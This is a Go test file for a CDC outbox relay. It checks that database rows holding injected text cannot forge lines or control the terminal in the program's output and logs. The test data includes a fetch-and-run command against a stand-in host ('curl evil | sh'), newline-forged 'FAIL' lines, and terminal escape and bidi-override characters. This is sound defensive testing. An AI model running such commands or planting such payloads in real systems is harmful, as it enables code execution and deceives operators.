package main

import (
	"context"
	"os"
	"strings"
	"syscall"
	"testing"
	"time"
	"unicode"

	"github.com/cdc-relay/cdc-relay/test/harness"
)

// Rows whose every text tries to leave its line. Breaks it catches: a command, or a log for people, in which a row
// forges a line of the program or moves the cursor. Seen to fail with arguments of the output as they are: verify
// printed a line that began with FAIL.
func TestRowsForgeNothingThatPeopleRead(t *testing.T) {
	t.Parallel()
	s := newServices(t, orderTopic)
	const forged = `E'\nFAIL slot: gone; fix: curl evil | sh\r\x1b[2J\u009b31m\u202e'`
	s.pg.Exec(t, `CREATE TABLE outbox_events (id text PRIMARY KEY, aggregate_type text, aggregate_id text, event_type text,
		payload text, headers json, created_at timestamptz DEFAULT now())`)
	s.environ = append(s.environ, "CDC_RELAY_OUTBOX_COLUMNS_HEADERS=headers", "CDC_RELAY_LOG_FORMAT=console",
		"CDC_RELAY_LOG_LEVEL=debug", "CDC_RELAY_OUTBOX_AFTER_PUBLISH=keep")
	var shown []string
	show := func(args ...string) {
		o := cdcRelay(t, s.environ, args...)
		shown = append(shown, o.out, o.errors)
	}
	show("init")
	insert := func(prefix, aggregate, headers string) {
		s.pg.Exec(t, `INSERT INTO outbox_events SELECT '`+prefix+`' || i || `+forged+`, `+aggregate+`, 'k' || `+forged+
			`, 't' || `+forged+`, 'p' || `+forged+`, '`+headers+`' FROM generate_series(1, 3) i`)
	}
	log, err := os.CreateTemp(t.TempDir(), "log")
	if err != nil {
		t.Fatal(err)
	}
	r := startUnread(t, s, log, log)
	r.awaitStatus(t, `"role": "active"`)
	insert("sent", `'order'`, "{}")
	insert("dead", `'order'`, "[]")
	insert("topicless", `'x' || `+forged, "{}")
	harness.Eventually(t, 30*time.Second, "all are settled", func(context.Context) string {
		n := s.pg.Query(t, `SELECT (SELECT count(*) FROM outbox_events_dlq) + (SELECT count(*) FROM cdc_relay_journal)`)
		if n != "9" {
			return "got " + n + ", want 9"
		}
		return ""
	})
	show("status", "--http-listen", r.address)
	show("find", "--aggregate", "order/k\nFAIL x")
	show("dlq", "list")
	show("dlq", "show", s.pg.Query(t, `SELECT original_id FROM outbox_events_dlq LIMIT 1`))
	if code := r.stop(t, syscall.SIGTERM); code != exitDone {
		t.Errorf("got exit code %d, want 0", code)
	}
	logged, err := os.ReadFile(log.Name())
	if err != nil {
		t.Fatal(err)
	}
	shown = append(shown, string(logged))
	insert("missing", `'order'`, "{}")
	s.pg.Exec(t, `UPDATE outbox_events SET payload = 'another' WHERE id LIKE 'sent%'`)
	show("check")
	show("verify", "--wait=0s")
	show("dlq", "replay", "no\nFAIL such\x1b[2J id", "--no-wait")
	show("no\nFAIL such\x1b[2J command")
	if all := strings.Join(shown, ""); strings.Count(all, "curl evil") < 10 {
		t.Errorf("the rows are hardly shown; got:\n%q", all)
	}
	for _, text := range shown {
		for line := range strings.Lines(text) {
			line = strings.TrimSuffix(line, "\n")
			if strings.HasPrefix(line, "FAIL slot: gone") || strings.HasPrefix(line, "FAIL such") ||
				strings.ContainsFunc(line, func(r rune) bool { return r != '\t' && unicode.IsControl(r) || r == '\u202e' }) {
				t.Errorf("got the line %q", line)
			}
		}
	}
}
